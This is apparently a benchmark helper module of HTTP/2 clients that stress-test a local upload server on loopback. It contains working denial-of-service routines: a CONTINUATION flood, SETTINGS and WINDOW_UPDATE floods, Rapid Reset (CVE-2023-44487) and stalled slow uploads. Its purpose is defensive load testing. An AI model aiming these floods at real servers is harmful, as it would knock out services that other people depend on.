"""HTTP/2 clients that misbehave without an API key, for bench/stalled.py (loopback only).

Each attack runs for ``seconds`` against ``127.0.0.1:port`` (h2c with prior knowledge) and returns
what it managed: frames sent, connections the server closed. They are written with ``h2`` for the
well-formed parts and ``hyperframe`` for frames a well-behaved client would never send.
"""

from __future__ import annotations

import socket
import time
from collections.abc import Callable
from dataclasses import dataclass

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
from hyperframe.frame import ContinuationFrame, HeadersFrame, SettingsFrame, WindowUpdateFrame

BOUNDARY = "--sdrtrunk-sdrtrunk-sdrtrunk"


@dataclass
class Outcome:
    frames: int = 0
    bytes_sent: int = 0
    connections: int = 0
    closed_by_server: int = 0


def _connect(port: int, source: str) -> tuple[socket.socket, h2.connection.H2Connection]:
    sock = socket.create_connection(("127.0.0.1", port), timeout=5, source_address=(source, 0))
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def _request_headers(port: int) -> list[tuple[bytes, bytes]]:
    return [
        (b":method", b"POST"),
        (b":path", b"/api/call-upload"),
        (b":scheme", b"http"),
        (b":authority", f"127.0.0.1:{port}".encode()),
        (b"content-type", f"multipart/form-data; boundary={BOUNDARY}".encode()),
    ]


def _drain(sock: socket.socket, conn: h2.connection.H2Connection | None) -> list[h2.events.Event] | None:
    """Read what the server sent without blocking; None once it has closed the connection."""
    events: list[h2.events.Event] = []
    sock.setblocking(False)
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                return None
            if conn is not None:
                try:
                    events.extend(conn.receive_data(data))
                except h2.exceptions.ProtocolError:
                    return None
    except BlockingIOError:
        return events
    except OSError:
        return None
    finally:
        sock.setblocking(True)


def _wait(
    sock: socket.socket, conn: h2.connection.H2Connection, timeout: float
) -> list[h2.events.Event] | None:
    """Wait up to ``timeout`` for the server to send something, then read it all."""
    sock.settimeout(timeout)
    try:
        data = sock.recv(65536)
    except TimeoutError:
        return []
    except OSError:
        return None
    finally:
        sock.settimeout(2)
    if not data:
        return None
    try:
        events = conn.receive_data(data)
    except h2.exceptions.ProtocolError:
        return None
    more = _drain(sock, conn)
    return None if more is None else events + more


def _frame_flood(port: int, source: str, seconds: float, frame: Callable[[int], bytes]) -> Outcome:
    """Open connections and pour ``frame(i)`` into each until the server closes it."""
    out = Outcome()
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            sock, _ = _connect(port, source)
        except OSError:
            time.sleep(0.05)
            continue
        out.connections += 1
        i = 0
        try:
            sock.settimeout(1)
            while time.monotonic() < deadline:
                batch = b"".join(frame(i + n) for n in range(64))
                sock.sendall(batch)
                i += 64
                out.frames += 64
                out.bytes_sent += len(batch)
                if _drain(sock, None) is None:
                    out.closed_by_server += 1
                    break
        except OSError:
            out.closed_by_server += 1
        finally:
            sock.close()
    return out


def continuation_flood(port: int, source: str, seconds: float) -> Outcome:
    """HEADERS without END_HEADERS, then CONTINUATION frames of literal headers, never ending."""
    block = b"\x00\x0ax-padding-" + b"\x7f\x81\x0f" + b"a" * 2048  # literal, new name, 2 KB value
    state = {"stream": 1}

    def frame(i: int) -> bytes:
        if i % 10_000 == 0:
            state["stream"] += 2
            f: HeadersFrame | ContinuationFrame = HeadersFrame(state["stream"], b"")
        else:
            f = ContinuationFrame(state["stream"], block)
        return f.serialize()

    return _frame_flood(port, source, seconds, frame)


def settings_flood(port: int, source: str, seconds: float) -> Outcome:
    """SETTINGS frames (each one owed an ACK) from a client that never reads."""
    return _frame_flood(
        port,
        source,
        seconds,
        lambda i: SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize(),
    )


def window_update_flood(port: int, source: str, seconds: float) -> Outcome:
    """Connection-level WINDOW_UPDATE frames of 1 byte each."""
    return _frame_flood(port, source, seconds, lambda i: WindowUpdateFrame(0, 1).serialize())


def rapid_reset(port: int, source: str, seconds: float) -> Outcome:
    """HEADERS for an upload, then RST_STREAM at once, on stream after stream (CVE-2023-44487)."""
    out = Outcome()
    deadline = time.monotonic() + seconds
    headers = _request_headers(port)
    while time.monotonic() < deadline:
        try:
            sock, conn = _connect(port, source)
        except OSError:
            time.sleep(0.05)
            continue
        out.connections += 1
        try:
            sock.settimeout(1)
            while time.monotonic() < deadline:
                for _ in range(32):
                    sid = conn.get_next_available_stream_id()
                    conn.send_headers(sid, headers)
                    conn.reset_stream(sid)
                    out.frames += 2
                data = conn.data_to_send()
                sock.sendall(data)
                out.bytes_sent += len(data)
                if _drain(sock, conn) is None:
                    out.closed_by_server += 1
                    break
        except (OSError, h2.exceptions.ProtocolError):
            out.closed_by_server += 1
        finally:
            sock.close()
    return out


def stalled_uploads(
    port: int, source: str, seconds: float, streams: int = 100, frame_bytes: int = 16384, every: float = 0.2
) -> Outcome:
    """``streams`` concurrent uploads per connection, the audio part before any key, ``frame_bytes``
    DATA on each every ``every`` seconds; a stream the server ends is replaced by a new one."""
    out = Outcome()
    deadline = time.monotonic() + seconds
    headers = _request_headers(port)
    head = (
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="system"\r\n\r\n11\r\n'
        f'--{BOUNDARY}\r\nContent-Disposition: form-data; filename="a.mp3"; name="audio"\r\n\r\n'
    ).encode()
    chunk = b"\0" * frame_bytes
    while time.monotonic() < deadline:
        try:
            sock, conn = _connect(port, source)
        except OSError:
            time.sleep(0.05)
            continue
        out.connections += 1
        open_streams: set[int] = set()
        try:
            # Honour the server's SETTINGS (its stream limit) before opening streams.
            for _ in range(20):
                got = _wait(sock, conn, 0.05)
                if got is None or any(isinstance(e, h2.events.RemoteSettingsChanged) for e in got):
                    break
            sock.settimeout(2)
            while time.monotonic() < deadline:
                tick = time.monotonic()
                while len(open_streams) < streams:
                    try:
                        sid = conn.get_next_available_stream_id()
                        conn.send_headers(sid, headers)
                        conn.send_data(sid, head)
                    except h2.exceptions.TooManyStreamsError:
                        break
                    open_streams.add(sid)
                owed = dict.fromkeys(open_streams, frame_bytes)
                while owed and time.monotonic() - tick < every:
                    for sid in list(owed):
                        size = min(
                            owed[sid], conn.local_flow_control_window(sid), conn.max_outbound_frame_size
                        )
                        if size > 0:
                            try:
                                conn.send_data(sid, chunk[:size])
                            except h2.exceptions.StreamClosedError:
                                open_streams.discard(sid)
                                del owed[sid]
                                continue
                            out.frames += 1
                            owed[sid] -= size
                            if not owed[sid]:
                                del owed[sid]
                    data = conn.data_to_send()
                    if data:
                        sock.sendall(data)
                        out.bytes_sent += len(data)
                    events = _wait(sock, conn, 0.02)
                    if events is None:
                        raise ConnectionResetError
                    for event in events:
                        if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                            open_streams.discard(event.stream_id)
                            owed.pop(event.stream_id, None)
                        elif isinstance(event, h2.events.ConnectionTerminated):
                            raise ConnectionResetError
                    pending = conn.data_to_send()
                    if pending:
                        sock.sendall(pending)
                time.sleep(max(0.0, every - (time.monotonic() - tick)))
        except (OSError, h2.exceptions.ProtocolError):
            out.closed_by_server += 1
        finally:
            sock.close()
    return out


ATTACKS: dict[str, Callable[[int, str, float], Outcome]] = {
    "continuation": continuation_flood,
    "settings": settings_flood,
    "window-update": window_update_flood,
    "rapid-reset": rapid_reset,
    "uploads": stalled_uploads,
}
